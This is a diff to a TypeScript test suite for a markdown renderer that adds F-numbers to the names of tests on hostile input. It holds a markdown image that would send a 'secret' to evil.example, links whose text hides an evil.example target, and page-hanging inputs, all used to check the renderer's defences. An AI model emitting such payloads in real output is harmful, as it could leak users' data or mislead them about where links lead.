@@ -73,7 +73,7 @@ function grown(source: string, size: number): Block[] {
 
 beforeAll(() => formulas.load());
 
-describe("hostile text", () => {
+describe("F49 hostile text", () => {
   const cases = PAYLOADS.flatMap((payload) => PLACES.map((place) => place(payload)));
 
   it("is enough of it", () => expect(cases.length).toBeGreaterThanOrEqual(300));
@@ -92,13 +92,13 @@ describe("hostile text", () => {
     expect("polluted" in globalThis).toBe(false);
   });
 
-  it("says whose picture it did not load", () => {
+  it("F50 says whose picture it did not load", () => {
     for (const place of PLACES.slice(0, 5)) {
       expect(shown(blocksOf(place("![a](https://evil.example/q?secret)"))).textContent).toContain("evil.example");
     }
   });
 
-  it("says where a link leads that its text hides", () => {
+  it("F51 says where a link leads that its text hides", () => {
     const hosts = [
       ["[https://bank.example](https://evil.example)", "(evil.example)"],
       ["[bank](https://bank.example@evil.example/)", "(evil.example)"],
@@ -107,19 +107,19 @@ describe("hostile text", () => {
     for (const [source, host] of hosts) expect(shown(blocksOf(source)).textContent).toContain(host);
   });
 
-  it.each(PAYLOADS)("is the same at the end, however it was split: %j", (payload) => {
+  it.each(PAYLOADS)("F52 is the same at the end, however it was split: %j", (payload) => {
     // What a later line defines is resolved once the answer is whole, by `blocksOf`.
     const source = payload.startsWith("[away]") ? payload : `Before.\n\n${payload}\n\n${payload}`;
     expect(grown(source, 7)).toEqual(blocksOf(source));
   });
 
-  it("is the same at the end, whatever a split tears apart", () => {
+  it("F52 is the same at the end, whatever a split tears apart", () => {
     const source = "One\r\n\r\n&amp; &#x1F468; 👩‍👩‍👧 <b\n\n```\n~~~\n```\n\n$$\nx\n$$\n\n- [x] a\n- b\n\n| a |\n|--|\n| 1 |";
     expect(grown(source, 1)).toEqual(blocksOf(source));
   });
 });
 
-describe("text that is meant to hang a page", () => {
+describe("F52 text that is meant to hang a page", () => {
   const many = 100_000;
   const bombs: [string, string][] = [
     ["one line of a megabyte", "word ".repeat(LONGEST / 5 - 1)],
